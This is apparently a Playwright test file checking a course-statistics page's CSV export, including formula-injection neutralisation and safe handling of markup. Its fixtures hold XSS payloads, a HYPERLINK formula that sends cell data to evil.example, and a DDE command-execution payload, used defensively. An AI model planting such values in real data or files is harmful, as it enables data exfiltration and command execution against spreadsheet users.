import { expect, test, type Locator, type Page } from '@playwright/test';
import { browserToday, downloadCsv } from './csv-download';
import {
  allowWholeCourseLoads,
  LOAD_ALL_TIMEOUT,
  openSignedIn,
  PROXY_URL,
  scriptUpstream,
  signIn,
  uniqueToken,
} from './support';

const STATS_PATH = /^\/endpoint\/v1\/courses\/\d+\/course_stats$/;
const ALL_LOADED = 'Loaded every page (100 pages): 10,000 rows';

function statsTable(page: Page, courseId: number): Locator {
  return page.getByRole('table', { name: new RegExp(`^Statistics of course ${courseId}\\b`) });
}

/** The header texts of the table, in their order (a sortable header's text without its arrow). */
async function headerTexts(table: Locator): Promise<string[]> {
  return table.evaluate((element) =>
    [...element.querySelectorAll('thead th')].map((th) =>
      (th.querySelector('button')?.firstChild?.textContent ?? th.textContent ?? '').trim(),
    ),
  );
}

/** The export's header for the table's headers: User ID and Email first, units and the time zone named. */
function csvHeaderFor(headers: readonly string[], timeZone: string): string[] {
  const units: Record<string, string> = {
    Progress: 'Progress (%)',
    Deadline: `Deadline (${timeZone})`,
    'Last activity': `Last activity (${timeZone})`,
    'Time spent': 'Time spent (seconds)',
  };
  const rest = headers.filter((name) => name !== 'Email' && name !== 'User ID').map((name) => units[name] ?? name);
  return ['User ID', 'Email', ...rest];
}

const TIME_ZONE = 'Europe/Moscow';
test.use({ timezoneId: TIME_ZONE });

test('exports exactly the rows shown and the visible columns, with a BOM, and never asks the API', async ({ page }) => {
  // Reads all 10,000 rows, twice.
  allowWholeCourseLoads(2);
  const requests: string[] = [];
  page.on('request', (request) => {
    if (STATS_PATH.test(new URL(request.url()).pathname)) requests.push(request.url());
  });
  await openSignedIn(page, '/courses/1000/stats?all=1&quick=not_passed&sort=score.desc');
  await expect(page.getByRole('status').filter({ hasText: /^Loaded every/ })).toHaveText(ALL_LOADED, {
    timeout: LOAD_ALL_TIMEOUT,
  });
  const table = statsTable(page, 1000);

  // An extra column, shown from the Columns menu, goes last in the file as on screen.
  await page.getByRole('button', { name: 'Columns', exact: true }).click();
  await page.getByRole('checkbox', { name: 'Stat ID' }).check();
  await page.keyboard.press('Escape');
  const headers = await headerTexts(table);
  expect(headers.at(-1)).toBe('Stat ID');
  const shown = Number((await table.getAttribute('aria-rowcount')) ?? '0') - 1;
  expect(shown).toBeGreaterThan(100);
  expect(shown).toBeLessThan(10_000);

  await page.getByRole('combobox', { name: 'Delimiter' }).selectOption('Semicolon');
  const before = requests.length;
  const file = await downloadCsv(page, ';');
  expect(requests.length).toBe(before);
  // The file name says the course, the quick filter and the day.
  expect(file.name).toBe(`course-1000-not-passed-${await browserToday(page)}.csv`);
  expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(file.text).toContain('\r\n');

  const [header = [], ...rows] = file.rows;
  expect(header).toEqual(csvHeaderFor(headers, TIME_ZONE));
  expect(rows).toHaveLength(shown);
  await expect(page.getByRole('status').filter({ hasText: /^Exported/ })).toHaveText(
    `Exported ${shown.toLocaleString('en-US')} rows to ${file.name}.`,
  );
  const column = (name: string) => header.indexOf(name);
  // Sorted as shown: by score, highest first; filtered as shown: nobody passed.
  const scores = rows.map((row) => Number(row[column('Score')]));
  expect(scores).toEqual([...scores].sort((a, b) => b - a));
  expect(rows.every((row) => row[column('Status')] !== 'Passed')).toBe(true);
  // The same rows, in the same order, as the table's first rows.
  const firstIds = await table.evaluate(
    (element, index) =>
      [...element.querySelectorAll('tbody tr[aria-rowindex]')]
        .slice(0, 5)
        .map((row) => row.children[index]?.textContent?.trim()),
    headers.indexOf('Stat ID'),
  );
  expect(rows.slice(0, 5).map((row) => row[column('Stat ID')])).toEqual(firstIds);
  expect(new Set(rows.map((row) => row[column('Stat ID')])).size).toBe(shown);

  // The delimiter is remembered.
  await page.reload();
  await expect(page.getByRole('status').filter({ hasText: /^Loaded every/ })).toHaveText(ALL_LOADED, {
    timeout: LOAD_ALL_TIMEOUT,
  });
  await expect(page.getByRole('combobox', { name: 'Delimiter' })).toHaveValue(';');
});

test('exports the rows of the page outside whole-course mode, with commas and the markup as plain text', async ({
  page,
}) => {
  await openSignedIn(page, '/courses/106/stats');
  await expect(page.getByText('Showing 6 rows on page 1.')).toBeVisible();
  await page.getByRole('combobox', { name: 'Delimiter' }).selectOption('Comma');
  const file = await downloadCsv(page, ',');
  const [header, ...rows] = file.rows;
  // The default columns, as shown, after User ID and Email.
  expect(header).toEqual(csvHeaderFor(await headerTexts(statsTable(page, 106)), TIME_ZONE));
  expect(header?.slice(0, 3)).toEqual(['User ID', 'Email', 'User']);
  expect(rows).toHaveLength(6);
  expect(rows.map((row) => row[2])).toContain('<img src=x onerror=alert(1)>');
  expect(rows.map((row) => row[1])).toContain('"><svg onload=alert(2)>@example.com');
  // Only what would have been a link is exported as one: never the javascript: URL.
  const certificates = rows.map((row) => row[11]);
  expect(certificates).toContain('https://files.example.com/certificates/106/1.pdf');
  expect(file.text).not.toContain('javascript:');
});

test('cells that a spreadsheet would run as formulas are neutralised with a leading quote', async ({ page }) => {
  // The demo data has no value starting with =, +, - or @: a scripted API sends some.
  const token = uniqueToken('export-formulas');
  const row = (id: number, overrides: Record<string, unknown>) => ({
    id,
    user_id: 500 + id,
    username: `Learner ${id}`,
    user_email: `learner${id}@example.com`,
    course_id: 77,
    coursename: 'Scripted',
    completed: false,
    success: false,
    course_session_id: 1,
    course_session_name: 'Session',
    deadline: null,
    time_spent: 60,
    quiz_count: null,
    score: 10,
    last_activity: null,
    progress: 10,
    completed_tasks: 1,
    cert_file: null,
    ...overrides,
  });
  const body = [
    row(1, { username: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' }),
    row(2, { username: "+1+cmd|'/C calc'!A0", course_session_name: '-2+3' }),
    row(3, { username: '@SUM(1+1)', user_email: '=1+1@example.com' }),
    row(4, { username: '\tTabbed', course_session_name: 'a=b, -c' }),
    row(5, { username: 'Анна Смирнова', course_session_name: 'Поток 1; "весна"' }),
  ];
  await scriptUpstream(token, [], { path: '/course_stats$', status: 200, body });
  await page.goto(`${PROXY_URL}/courses/77/stats`);
  await signIn(page, token);
  await expect(page.getByText('Showing 5 rows on page 1.')).toBeVisible();

  await page.getByRole('combobox', { name: 'Delimiter' }).selectOption('Semicolon');
  const file = await downloadCsv(page, ';');
  const [, ...rows] = file.rows;
  // Columns: User ID, Email, User, Session, ...
  const byId = new Map(rows.map((cells, index) => [index + 1, cells]));
  expect(byId.get(1)?.[2]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
  expect(byId.get(2)?.[2]).toBe("'+1+cmd|'/C calc'!A0");
  expect(byId.get(2)?.[3]).toBe("'-2+3");
  expect(byId.get(3)?.[2]).toBe("'@SUM(1+1)");
  expect(byId.get(3)?.[1]).toBe("'=1+1@example.com");
  expect(byId.get(4)?.[2]).toBe("'\tTabbed");
  expect(byId.get(4)?.[3]).toBe('a=b, -c');
  // Cyrillic survives as UTF-8, and a cell holding the delimiter or quotes is quoted (RFC 4180).
  expect(byId.get(5)?.[2]).toBe('Анна Смирнова');
  expect(byId.get(5)?.[3]).toBe('Поток 1; "весна"');
  expect(file.text).toContain('"Поток 1; ""весна"""');
  expect(file.text).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
  // The other delimiter is quoted too, so a spreadsheet that splits on commas keeps the cell whole.
  expect(file.text).toContain(';"a=b, -c";');
});

test('numbers stay numbers and dates read as dates, whichever delimiter is chosen', async ({ page }) => {
  const token = uniqueToken('export-numbers');
  const learner = {
    id: 1,
    user_id: 501,
    username: 'Semi;colon',
    user_email: 'learner1@example.com',
    course_id: 78,
    coursename: 'Scripted',
    completed: false,
    success: false,
    course_session_id: 1,
    course_session_name: 'Lyon, Paris',
    deadline: '2026-11-25T09:05:00Z',
    time_spent: -12.5,
    quiz_count: null,
    score: -5,
    last_activity: '2026-11-24T23:30:00+03:00',
    progress: 40,
    completed_tasks: 3,
    cert_file: null,
  };
  await scriptUpstream(token, [], { path: '/course_stats$', status: 200, body: [learner] });
  await page.goto(`${PROXY_URL}/courses/78/stats?quick=not_passed`);
  await signIn(page, token);
  await expect(page.getByRole('button', { name: 'Semi;colon' })).toBeVisible();

  for (const delimiter of [';', ','] as const) {
    await page.getByRole('combobox', { name: 'Delimiter' }).selectOption(delimiter === ';' ? 'Semicolon' : 'Comma');
    const file = await downloadCsv(page, delimiter);
    expect(file.name).toBe(`course-78-not-passed-${await browserToday(page)}.csv`);
    const [header = [], row = []] = file.rows;
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('User ID')).toBe('501');
    // Negative numbers are numbers: no formula guard; the decimal mark is the one a region with this delimiter uses.
    expect(cell('Score')).toBe('-5');
    expect(cell('Time spent (seconds)')).toBe(delimiter === ';' ? '-12,5' : '-12.5');
    expect(cell('Progress (%)')).toBe('40');
    // YYYY-MM-DD HH:MM in the browser's time zone, which the header names.
    expect(cell(`Deadline (${TIME_ZONE})`)).toBe('2026-11-25 12:05');
    expect(cell(`Last activity (${TIME_ZONE})`)).toBe('2026-11-24 23:30');
    // A cell holding either delimiter is quoted, whatever the delimiter.
    expect(cell('User')).toBe('Semi;colon');
    expect(cell('Session')).toBe('Lyon, Paris');
    const line = file.text.split('\r\n')[1] ?? '';
    expect(line).toContain('"Semi;colon"');
    expect(line).toContain('"Lyon, Paris"');
    expect(line).toContain(`${delimiter}-5${delimiter}`);
  }
});
